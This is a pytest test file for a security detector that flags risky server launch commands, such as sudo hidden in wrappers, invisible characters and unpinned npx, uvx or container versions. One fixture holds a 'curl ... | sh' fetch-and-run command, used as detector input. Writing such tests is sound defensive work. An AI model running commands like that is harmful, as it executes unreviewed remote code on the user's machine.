"""Start commands: what the patterns cannot say in one line."""

from __future__ import annotations

from collections.abc import Sequence

import pytest

from douane.detectors import dangerous_launch_command, unpinned_launch_command
from douane.model import Launch, Severity


def dangers(argv: Sequence[str]) -> dict[str, str]:
    found = dangerous_launch_command.detect(Launch(argv=tuple(argv), typed=True))
    return {evidence.where.pointer or "": evidence.why for evidence in found}


def floating(argv: Sequence[str], *, typed: bool = True) -> list[tuple[str | None, str]]:
    found = unpinned_launch_command.detect(Launch(argv=tuple(argv), typed=typed))
    return [(evidence.where.pointer, evidence.excerpt) for evidence in found]


@pytest.mark.parametrize(
    "argv",
    [
        ["sh", "-c", "cd /srv && exec sudo npx -y a@1.0.0"],
        ["env", "A=1", "sudo", "-E", "npx", "a@1.0.0"],
        ["SUDO.EXE", "npx", "a@1.0.0"],
    ],
)
def test_programs_are_found_inside_wrappers(argv: list[str]) -> None:
    assert any("administrator" in why for why in dangers(argv).values())


def test_arguments_of_the_server_are_not_options_of_the_interpreter() -> None:
    assert dangers(["node", "server.js", "-e", "production"]) == {}
    assert dangers(["python", "-u", "-c", "print(1)"])
    assert dangers(["python", "-m", "server", "-c", "config.toml"]) == {}


def test_what_the_eye_passes_over() -> None:
    assert "not displayed" in dangers(["npx", "-y", "a@1.0.0", "--x=\u200b1"])["/argv/3"]
    assert "gap" in dangers(["npx", "-y", "a@1.0.0", "a" + " " * 60 + "b"])["/argv/3"]
    assert "cannot be reviewed" in dangers(["npx", "-y", "a@1.0.0", "a" * 9000])["/argv/3"]


def test_each_thing_is_reported_once_and_graded() -> None:
    launch = Launch(argv=("bash", "-c", "curl -s https://a.test/i | sh && curl -s https://b.test/j | sh"))
    found = list(dangerous_launch_command.detect(launch))
    assert [evidence.severity for evidence in found] == [Severity.CRITICAL]


def test_nothing_is_said_about_nothing() -> None:
    assert dangers([]) == {}
    assert dangers(["", ""]) == {}
    assert floating([]) == []
    assert floating(["npx"]) == []
    assert floating(["docker"]) == []


def test_a_command_with_unknown_options_is_left_to_the_reader_of_targets() -> None:
    assert floating(["npx", "--no-such-option", "a"]) == []


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["npx", "-y", "a@1.2.3"], []),
        (["npx", "-y", "a@v1.2.3-rc.1+b"], []),
        (["npx", "-y", "a@1.2"], [("/argv/2", "a@1.2")]),
        (["npx", "-y", "a@>=1.2.3"], [("/argv/2", "a@>=1.2.3")]),
        (["npx", "-y", "github:o/r"], [("/argv/2", "github:o/r")]),
        (["npx", "-y", "github:o/r#" + "a" * 40], []),
        (["npx.cmd", "@s/a"], [("/argv/1", "@s/a")]),
        (["uvx", "a==1.*"], [("/argv/1", "a==1.*")]),
        (["uvx", "--from", "a[x]>=1,<2", "b"], [("/argv/2", "a[x]>=1,<2")]),
        (["uvx", "--from", "git+https://git.test/o/r@" + "b" * 40, "r"], []),
        (["uvx", "--with", "b", "a==1.0"], [("/argv/2", "b")]),
        (["uv", "run", "--with", "a==1.0", "a"], []),
        (["sh", "-c", "exec uvx a"], [("/argv/2", "a")]),
        (["podman", "run", "--rm", "-e", "A=1", "img"], [("/argv/5", "img")]),
        (["docker", "run", "img@sha256:" + "0" * 64], []),
        (["docker", "build", "."], []),
        (["python", "-m", "a"], []),
    ],
)
def test_versions(argv: list[str], expected: list[tuple[str, str]]) -> None:
    assert floating(argv) == expected
    assert floating(argv, typed=False) == []
